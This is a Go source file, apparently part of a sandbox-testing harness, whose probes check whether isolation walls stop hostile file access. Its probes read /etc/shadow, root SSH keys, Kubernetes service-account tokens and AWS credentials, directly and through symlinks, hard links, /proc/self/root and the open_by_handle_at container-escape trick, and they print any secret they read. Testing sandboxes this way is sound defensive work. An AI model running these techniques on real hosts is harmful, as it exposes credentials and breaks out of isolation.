package main

import (
	"fmt"
	"path/filepath"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"tenwalls.dev/harness/hostile"
)

var (
	_ = route("credentials", "shadow", plainly("/etc/shadow"))
	_ = route("credentials", "ssh-key", plainly("/root/.ssh/id_ed25519"))
	_ = route("credentials", "service-account", plainly("/var/run/secrets/kubernetes.io/serviceaccount/token"))
	_ = route("credentials", "cloud-credentials", plainly("/root/.aws/credentials"))
	_ = route("credentials", "symlink", throughSymlink)
	_ = route("credentials", "proc-root", func(p *Probe) { p.readCanary("/proc/self/root" + p.canary()) })
	_ = route("credentials", "hard-link", linkCanary)
	_ = route("credentials", "hard-link-behind", linkCanary)
	_ = route("credentials", "file-handle", handleOfCanary)
	_ = route("credentials", "file-handle-behind", handleOfCanary)
)

// canary is the path of the canary of the detours.
func (p *Probe) canary() string { return p.ParamOr("canary", "/etc/shadow") }

func plainly(path string) func(*Probe) {
	return func(p *Probe) { p.readCanary(p.ParamOr("canary", path)) }
}

func throughSymlink(p *Probe) {
	link := filepath.Join(p.Scratch(), "credentials-symlink")
	if err := unix.Symlinkat(p.canary(), unix.AT_FDCWD, link); err != nil {
		p.Failed("make the symlink: " + err.Error())
		return
	}
	defer unix.Unlinkat(unix.AT_FDCWD, link, 0) //nolint:errcheck // the scratch folder goes with the job
	p.readCanary(link)
}

// present tells whether the canary is there, which only a stat that leads to a
// file of its own can show. One that is missing is claimed as refused by ENOENT,
// which is not what the attempt expects, and not as reached.
func (p *Probe) present(name string) (*unix.Stat_t, bool) {
	var st unix.Stat_t
	err := unix.Stat(name, &st)
	if err == nil {
		return &st, true
	}
	p.refusedBy("newfstatat("+name+")", unix.SYS_NEWFSTATAT, errnoOf(err), func(errno syscall.Errno) (hostile.Place, string) {
		place, note := bySearch(name)(errno)
		return place, "nothing shows that the canary is there: " + note
	})
	return nil, false
}

// readCanary opens a canary and reads it.
func (p *Probe) readCanary(path string) {
	st, ok := p.present(path)
	if !ok {
		return
	}
	_, note := owned(st, unix.R_OK)
	call := "openat(" + path + ", O_RDONLY)"
	p.Reached(call, note)
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		p.refusedBy(call, unix.SYS_OPENAT, errnoOf(err), byOwnership(st, unix.R_OK))
		return
	}
	defer unix.Close(fd) //nolint:errcheck // read only
	buf := make([]byte, 1024)
	n, err := unix.Read(fd, buf)
	if err != nil {
		p.Happened(call, 0, "opened, though not read: "+err.Error())
		return
	}
	// What was read is printed: that is what a thief would do, and the host
	// looks for the secret in what the job printed.
	p.Happened(call, int64(n), fmt.Sprintf("%s; read %q", note, buf[:n]))
}

// linkCanary makes a hard link to the canary in scratch and reads through it.
func linkCanary(p *Probe) {
	st, ok := p.present(p.canary())
	if !ok {
		return
	}
	link := filepath.Join(p.Scratch(), "credentials-"+p.route)
	call := "linkat(" + p.canary() + ", " + link + ")"
	_, note := owned(st, unix.R_OK)
	p.Reached(call, note)
	var pin pinned
	defer pin.Unpin()
	end := inChild(unix.SYS_LINKAT, [6]uintptr{dirAt, pin.str(p.canary()), dirAt, pin.str(link), 0}, childTimeout)
	if p.refusedAt(call, unix.SYS_LINKAT, end, p.linkBehind(st, p.canary(), link)) {
		return
	}
	p.Happened(call, 1, "a hard link to the canary is in scratch")
	p.readCanary(link)
}

// linkBehind tells which wall behind the filter refused a hard link.
func (p *Probe) linkBehind(st *unix.Stat_t, from, to string) behind {
	return func(errno syscall.Errno) (hostile.Place, string) {
		mounts, err := ownMounts()
		if err != nil {
			return hostile.Unknown, err.Error()
		}
		a, b := mountOf(mounts, from), mountOf(mounts, to)
		forbids, note := owned(st, unix.R_OK|unix.W_OK)
		switch {
		case errno == unix.EXDEV && a != nil && b != nil && a.ID != b.ID:
			return hostile.ScratchMount, fmt.Sprintf("the mount table has them on two mounts, %s and %s", a.Mountpoint, b.Mountpoint)
		case errno == unix.EPERM && forbids: // proc(5), protected_hardlinks
			return hostile.FileOwnership, note
		}
		return byMount(to)(errno)
	}
}

// handleOfCanary opens the canary by a file handle, past every folder above it.
func handleOfCanary(p *Probe) {
	st, ok := p.present(p.canary())
	if !ok {
		return
	}
	_, note := owned(st, unix.R_OK)
	// struct file_handle, open_by_handle_at(2): size, type, then at most 128 bytes.
	handle := make([]byte, 8+128)
	*(*uint32)(unsafe.Pointer(&handle[0])) = 128
	mountID := make([]byte, 8)
	var pin pinned
	defer pin.Unpin()
	args := [6]uintptr{dirAt, pin.str(p.canary()), pin.bytes(handle), pin.bytes(mountID), 0}
	call := "name_to_handle_at(" + p.canary() + ")"
	p.Reached(call, note)
	if p.refusedAt(call, unix.SYS_NAME_TO_HANDLE_AT, inChild(unix.SYS_NAME_TO_HANDLE_AT, args, childTimeout), nowhere) {
		p.openGuessedHandle(handle, &pin)
		return
	}
	if _, _, errno := unix.RawSyscall6(unix.SYS_NAME_TO_HANDLE_AT, args[0], args[1], args[2], args[3], args[4], 0); errno != 0 {
		p.refusedBy(call, unix.SYS_NAME_TO_HANDLE_AT, errno, nowhere)
		return
	}
	p.openHandle(handle, &pin)
}

// openGuessedHandle opens a handle that was not asked for but made up, as the
// known escape from containers does: inode number of the root folder, type 1.
func (p *Probe) openGuessedHandle(handle []byte, pin *pinned) {
	*(*uint32)(unsafe.Pointer(&handle[0])), *(*uint32)(unsafe.Pointer(&handle[4])), handle[8] = 8, 1, 2
	p.openHandle(handle, pin)
}

func (p *Probe) openHandle(handle []byte, pin *pinned) {
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		p.Failed("open the mount for the handle: " + err.Error())
		return
	}
	defer unix.Close(root) //nolint:errcheck // read only
	call := "open_by_handle_at(/)"
	args := [6]uintptr{uintptr(root), pin.bytes(handle), unix.O_RDONLY}
	end := inChild(unix.SYS_OPEN_BY_HANDLE_AT, args, 2*time.Second)
	if p.refusedAt(call, unix.SYS_OPEN_BY_HANDLE_AT, end, byNoCapability("CAP_DAC_READ_SEARCH")) {
		return
	}
	p.Happened(call, 1, "a file was opened by its handle")
}

// byNoCapability is the behind of a call that needs a capability: EPERM is at
// the process credentials when our effective set is empty.
func byNoCapability(name string) behind {
	return func(errno syscall.Errno) (hostile.Place, string) {
		s, err := ownStatus()
		if err != nil {
			return hostile.Unknown, err.Error()
		}
		if errno == unix.EPERM && isZero(s["CapEff"]) {
			return hostile.ProcessCredentials, "the call needs " + name + "; our CapEff is " + s["CapEff"] + ", and the filter lets the call through"
		}
		return nowhere(errno)
	}
}
